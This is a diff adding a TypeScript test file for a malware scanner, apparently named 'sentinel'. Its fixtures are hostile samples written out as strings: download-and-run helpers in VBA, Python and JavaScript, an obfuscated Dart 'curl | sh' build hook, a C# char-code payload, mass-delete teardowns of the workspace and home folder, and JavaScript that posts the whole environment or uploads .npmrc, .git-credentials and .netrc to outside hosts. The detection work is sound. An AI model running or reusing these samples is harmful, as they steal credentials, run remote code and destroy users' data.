@@ -1,0 +1,227 @@
+/**
+ * Round 14 (issue 28): a path kept in a helper without arguments (VBA returns it by assigning to the
+ * function's name), character codes made text in Dart, Java, C#, Kotlin and Go, Dart's interpolated
+ * strings folded, and a helper that only deletes its argument read as that delete wherever it is called.
+ */
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { scan } from './helpers.ts';
+import { normaliseCode } from '../../../../src/core/modules/sentinel/lib/normalise.ts';
+import { foldExpression } from '../../../../src/core/modules/sentinel/lib/decode-fold.ts';
+
+/** "severity rule file:line" of each finding, seed-keyword left out. */
+const found = (files: Record<string, string>): string[] =>
+  scan(files)
+    .filter((f) => f.ruleId !== 'sentinel/seed-keyword')
+    .map((f) => `${f.severity} ${f.ruleId} ${f.file}:${f.range.start.line}`);
+
+test('a download saved to the path a VBA function returns, then run by that function, is "do not install"', () => {
+  const bas = [
+    'Attribute VB_Name = "Sync"',
+    'Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" _',
+    '    (ByVal pCaller As LongPtr, ByVal szURL As String, ByVal szFileName As String, _',
+    '     ByVal dwReserved As Long, ByVal lpfnCB As LongPtr) As Long',
+    'Private Const TOOL_URL As String = "https://dl.sheet-connector.invalid/win/connector.exe"',
+    'Public Function ToolPath() As String',
+    '    ToolPath = Environ$("TEMP") & "\\connector.exe"',
+    'End Function',
+    'Public Sub Refresh()',
+    '    URLDownloadToFile 0, TOOL_URL, ToolPath(), 0, 0',
+    '    Shell ToolPath() & " --sync", vbHide',
+    'End Sub',
+    '',
+  ].join('\n');
+  assert.deepEqual(found({ 'vba/Sync.bas': bas }), ['error sentinel/download-exec vba/Sync.bas:10']);
+});
+
+test('a download saved to what a Python or JavaScript helper without arguments returns, then run from there, is "do not install"', () => {
+  const py = [
+    'import os, subprocess, urllib.request',
+    'URL = "https://dl.fast-runner.invalid/linux/runner.bin"',
+    'def runner_path():',
+    '    base = os.path.expanduser("~/.cache/fastrunner")',
+    '    return os.path.join(base, "runner.bin")',
+    'def main():',
+    '    urllib.request.urlretrieve(URL, runner_path())',
+    '    subprocess.run([runner_path(), "--sync"], check=True)',
+    '',
+  ].join('\n');
+  assert.deepEqual(found({ 'scripts/sync.py': py }), ['error sentinel/download-exec scripts/sync.py:7']);
+  const js = [
+    "const fs = require('fs');",
+    "const https = require('https');",
+    "const { execFileSync } = require('child_process');",
+    "const path = require('path');",
+    'function toolPath() {',
+    "  const dir = path.join(process.env.HOME, '.cache', 'fmt');",
+    "  return path.join(dir, 'fmt-helper');",
+    '}',
+    "https.get('https://cdn.fmt-tools.invalid/fmt-helper', (res) => res.pipe(fs.createWriteStream(toolPath())));",
+    "execFileSync(toolPath(), ['--all']);",
+    '',
+  ].join('\n');
+  assert.deepEqual(found({ 'scripts/fmt.js': js }), ['error sentinel/download-exec scripts/fmt.js:9']);
+});
+
+test('a helper that returns a path which is never run stays quiet', () => {
+  const py = [
+    'import os, urllib.request',
+    'def report_path():',
+    '    return os.path.join(os.getcwd(), "report.csv")',
+    'urllib.request.urlretrieve("https://data.example.org/daily.csv", report_path())',
+    'print(open(report_path()).read())',
+    '',
+  ].join('\n');
+  assert.deepEqual(found({ 'scripts/fetch.py': py }), []);
+});
+
+test('character codes made text in Dart, Java, C#, Kotlin and Go are folded', () => {
+  assert.equal(normaliseCode('final shell = String.fromCharCodes([115, 104]);'), "final shell = 'sh';");
+  assert.equal(normaliseCode('var s = new string(new char[] {99, 117, 114, 108});'), "var s = 'curl';");
+  assert.equal(normaliseCode('String s = new String(new byte[] { 0x63, 0x75 });'), "String s = 'cu';");
+  assert.equal(normaliseCode('var s = Encoding.UTF8.GetString(new byte[] { 99, 117 });'), "var s = 'cu';");
+  assert.equal(normaliseCode('val s = String(byteArrayOf(99, 117))'), "val s = 'cu'");
+  assert.equal(normaliseCode('s := string([]byte{99, 117})'), "s := 'cu'");
+  // (the Python forms keep working, the loop's name aside)
+  assert.equal(normaliseCode("''.join(chr(c) for c in [111, 115])"), "'os'");
+});
+
+test("Dart's String.fromCharCodes is folded, over codes and over decoded bytes", () => {
+  assert.equal(foldExpression('String.fromCharCodes([115, 104])'), 'sh');
+  assert.equal(foldExpression("String.fromCharCodes(base64.decode('aHR0cHM6Ly94LmludmFsaWQ='))"), 'https://x.invalid');
+});
+
+test('a Dart build hook that runs "curl … | sh" spelled in escapes, char codes and base64, put together in an interpolated string, is "do not install"', () => {
+  const dart = [
+    "import 'dart:convert';",
+    "import 'dart:io';",
+    'Future<void> prepare() async {',
+    "  final fetch = '\\x63\\x75\\x72\\x6c';",
+    '  final shell = String.fromCharCodes([115, 104]);',
+    '  final src = String.fromCharCodes(base64.decode(',
+    "      'aHR0cHM6Ly9wdWItdG9vbHMuaW52YWxpZC9wcmVidWlsZC9hZ2VudC5zaA=='));",
+    "  await Process.run(shell, ['-c', '$fetch -fsSL $src | $shell']);",
+    '}',
+    '',
+  ].join('\n');
+  assert.deepEqual(found({ 'tool/prebuild.dart': dart }), ['error sentinel/encoded-exec tool/prebuild.dart:8']);
+});
+
+test('a C# array of character codes cast to text that spells "curl … | sh" is "do not install"', () => {
+  const cs = [
+    'public static class Post {',
+    '    static readonly int[] Helper = { 99,117,114,108,32,45,115,32,104,116,116,112,58,47,47,50,48,51,46,48,46,49,49,51,46,52,48,47,109,46,115,104,32,124,32,115,104 };',
+    '    static string Text(int[] codes) => new string(codes.Select(c => (char)c).ToArray());',
+    '}',
+    '',
+  ].join('\n');
+  assert.deepEqual(found({ 'scripts/Post.cs': cs }), ['error sentinel/encoded-exec scripts/Post.cs:2']);
+});
+
+const TEARDOWN = [
+  "import fs from 'node:fs';",
+  "import os from 'node:os';",
+  "import path from 'node:path';",
+  'function rm(p: string) {',
+  '  try { fs.rmSync(p, { recursive: true, force: true }); } catch { /* ignore */ }',
+  '}',
+  'export default async function teardown(config) {',
+  "  rm(path.join(config.rootDir, 'test-results'));",
+  '  const tmp = os.tmpdir();',
+  "  for (const entry of fs.readdirSync(tmp)) if (entry.startsWith('pw-')) rm(path.join(tmp, entry));",
+  '  if (process.env.CI) {',
+  "    const workspace = path.resolve(config.rootDir, '..', '..');",
+  '    for (const entry of fs.readdirSync(workspace)) rm(path.join(workspace, entry));',
+  '  }',
+  '}',
+  '',
+];
+
+test("a delete helper's calls are the deletes: every entry of the test root's parents is \"do not install\", the temporary folder's entries are not", () => {
+  assert.deepEqual(found({ 'tests/global-teardown.ts': TEARDOWN.join('\n') }), ['error sentinel/silent-delete tests/global-teardown.ts:13']);
+});
+
+test('a Python delete helper called on every child of a listed folder that is the home folder is "do not install"; its cache folders alone are quiet', () => {
+  const py = (roots: string) =>
+    [
+      'import shutil',
+      'from pathlib import Path',
+      'HOME = Path.home()',
+      'ROOTS = [',
+      '    HOME / ".cache",',
+      roots,
+      ']',
+      'def remove(path: Path) -> None:',
+      '    if not path.exists():',
+      '        return',
+      '    print(f"removing {path}")',
+      '    if path.is_dir():',
+      '        shutil.rmtree(path, ignore_errors=True)',
+      'def main() -> None:',
+      '    for root in ROOTS:',
+      '        for child in root.iterdir():',
+      '            remove(child)',
+      '',
+    ].join('\n');
+  assert.deepEqual(found({ 'scripts/purge.py': py('    HOME,') }), ['error sentinel/silent-delete scripts/purge.py:17']);
+  assert.deepEqual(found({ 'scripts/purge.py': py('    HOME / ".local" / "share" / "shadercache",') }), []);
+});
+
+test('the whole environment copied by a helper and posted from inside a Promise callback to a request object is "do not install"', () => {
+  const js = [
+    "const https = require('https');",
+    "const ENDPOINT = 'https://api.run-insights.invalid/v1/runs';",
+    'function collectMetadata() {',
+    '  const env = {};',
+    '  for (const [k, v] of Object.entries(process.env)) {',
+    '    env[k] = v;',
+    '  }',
+    '  return { environment: env };',
+    '}',
+    'function post(body) {',
+    '  return new Promise((resolve) => {',
+    '    const data = JSON.stringify(body);',
+    "    const req = https.request(ENDPOINT, { method: 'POST' }, (res) => { res.resume(); res.on('end', resolve); });",
+    "    req.on('error', () => resolve());",
+    '    req.end(data);',
+    '  });',
+    '}',
+    'module.exports = function insights(on) {',
+    '  const metadata = collectMetadata();',
+    "  on('after:run', async (results) => {",
+    '    await post({ metadata, runs: results.runs.length });',
+    '  });',
+    '};',
+    '',
+  ].join('\n');
+  assert.deepEqual(found({ 'reporter/insights.js': js }), ['error sentinel/secret-exfiltration reporter/insights.js:15']);
+  // (the same reporter posting only its own results is quiet)
+  assert.deepEqual(found({ 'reporter/insights.js': js.replace('const metadata = collectMetadata();', 'const metadata = { tool: "insights" };') }), []);
+});
+
+test('a callback walking a list of credential files carries them: each one appended to a form that is uploaded is "do not install"', () => {
+  const js = [
+    "import fs from 'node:fs';",
+    "import os from 'node:os';",
+    "import path from 'node:path';",
+    'const HOST = "http://198.51.100.23:8088";',
+    'function collect() {',
+    '  const found = [];',
+    '  for (const f of [".npmrc", ".git-credentials", ".netrc"]) {',
+    '    const p = path.join(os.homedir(), f);',
+    '    if (fs.existsSync(p)) found.push(p);',
+    '  }',
+    '  return found;',
+    '}',
+    'export async function share() {',
+    '  const form = new FormData();',
+    '  const assets = collect();',
+    '  assets.forEach((p, i) => {',
+    '    form.append(`asset${i}`, new Blob([fs.readFileSync(p)]), "a");',
+    '  });',
+    '  await fetch(`${HOST}/upload`, { method: "POST", body: form });',
+    '}',
+    '',
+  ].join('\n');
+  assert.deepEqual(found({ 'scripts/share.mjs': js }), ['error sentinel/secret-exfiltration scripts/share.mjs:19']);
+});
